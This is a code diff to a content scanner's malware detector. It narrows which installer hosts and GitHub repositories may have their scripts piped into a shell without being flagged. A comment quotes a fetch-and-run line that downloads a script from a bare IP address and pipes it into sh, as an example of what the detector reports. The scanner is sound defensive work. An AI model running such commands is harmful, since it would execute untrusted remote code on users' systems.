@@ -255,28 +255,36 @@ def _own_machine(host: str) -> bool:
     return host.rsplit(".", 1)[-1] in _LOCAL_TLDS
 
 
-# Where install scripts are published: "curl -fsSL https://get.docker.com | sh"
-# and nvm's, rustup's or NodeSource's one-liners are how developers install
-# tools, and a community shares them every day. A script piped into a shell
-# from any other host is what malware.exploit_delivery reports.
+# Where tools publish the scripts they are installed with: "curl -fsSL
+# https://get.docker.com | sh", rustup's, NodeSource's, Poetry's... A
+# developer community shares these one-liners every day. Whole host names,
+# not registered domains: on drive.google.com, s3.amazonaws.com or
+# deno.land/x anyone can publish a script.
 INSTALLER_HOSTS = frozenset(
-    "nodesource.com rustup.rs brew.sh deno.land deno.com bun.sh helm.sh sdkman.io rvm.io get-ruby.org "
-    "python-poetry.org astral.sh pnpm.io yarnpkg.com k3s.io ohmyz.sh starship.rs getcomposer.org "
-    "tailscale.com ollama.com fly.io heroku.com cloud.google.com azure.com amazonaws.com".split())
-
-
-def script_source_known(host: str) -> bool:
-    """May a script fetched from `host` be piped into a shell without a case?
-    An installer site, a code host's raw file, a publisher's own download
-    site, the writer's own machine, or a documentation domain that serves
-    nothing (example.com, *.example)."""
-    reg = registered_domain(host)
-    return (reg in INSTALLER_HOSTS or reg in OFFICIAL_DOWNLOADS or reg in _CODE_HOSTS or host in _SOURCE_HOSTS
-            or reg in _EXAMPLE_DOMAINS or _own_machine(host))
-
-
+    "get.docker.com test.docker.com download.docker.com sh.rustup.rs deb.nodesource.com rpm.nodesource.com "
+    "bun.sh get.sdkman.io get.rvm.io install.python-poetry.org astral.sh get.pnpm.io get.k3s.io starship.rs "
+    "getcomposer.org tailscale.com ollama.com cli-assets.heroku.com sdk.cloud.google.com bootstrap.pypa.io".split())
+# On a code host anyone can publish, so only the projects whose installers
+# people pipe into a shell count: the repository at the start of the path.
+INSTALLER_REPOS = tuple(
+    "raw.githubusercontent.com/" + repo + "/" for repo in (
+        "nvm-sh/nvm creationix/nvm homebrew/install ohmyzsh/ohmyzsh robbyrussell/oh-my-zsh helm/helm "
+        "docker/docker-install nodesource/distributions pyenv/pyenv-installer rbenv/rbenv-installer tj/n "
+        "schniz/fnm python-poetry/poetry moovweb/gvm golangci/golangci-lint").split())
 # Documentation domains (RFC 2606): nothing can be downloaded from them.
 _EXAMPLE_DOMAINS = frozenset(("example.com", "example.org", "example.net"))
+# "3105313793", "0xb9172c01": an IP address written as one number, not a
+# name on the writer's network.
+_NUMBER_HOST = re.compile(r"(?:0x[0-9a-f]+|\d+)", re.I)
+
+
+def script_source_known(host: str, path: str) -> bool:
+    """May a script fetched from host/path be piped into a shell without a
+    case? A tool's own installer site or repository, the writer's own
+    machine, or a documentation domain, which serves nothing."""
+    return (host in INSTALLER_HOSTS or (host + path).lower().startswith(INSTALLER_REPOS)
+            or registered_domain(host) in _EXAMPLE_DOMAINS
+            or (_own_machine(host) and not _NUMBER_HOST.fullmatch(host)))
 
 
 def source_view(host: str, path: str) -> bool:
@@ -486,11 +494,12 @@ def check_links(links, files, text: str, allowed_domains: frozenset[str],
                            "Asks readers to turn off their security protection"))
     m = EXPLOIT.search(text) if vocab is None or not _EXPLOIT_GATE.isdisjoint(vocab) else None
     if m and _PIPE_TO_SHELL.match(m.group()) and not _lure_in_text(text):
-        # Piped into a shell: the host the script comes from decides. None
-        # named (a pasted terminal log, "$URL") leaves nothing to judge.
-        hosts = [host for host, _, lk in targets if m.start() <= lk.start < m.end()]
-        hosts += _IPV4.findall(m.group())  # "wget -qO- 185.23.44.1/x.sh | sh": no scheme, no domain
-        if all(script_source_known(h) for h in hosts):
+        # Piped into a shell: where the script comes from decides. With no
+        # host it can be recognised by ("$URL", an address written in hex),
+        # it counts.
+        sources = [(host, path) for host, path, lk in targets if m.start() <= lk.start < m.end()]
+        sources += [(ip, "") for ip in _IPV4.findall(m.group())]  # "wget -qO- 185.23.44.1/x.sh | sh"
+        if sources and all(script_source_known(host, path) for host, path in sources):
             m = None
     if m:
         out.append(Finding("malware", "malware.exploit_delivery", 0.8, "high", m.start(), m.end(),
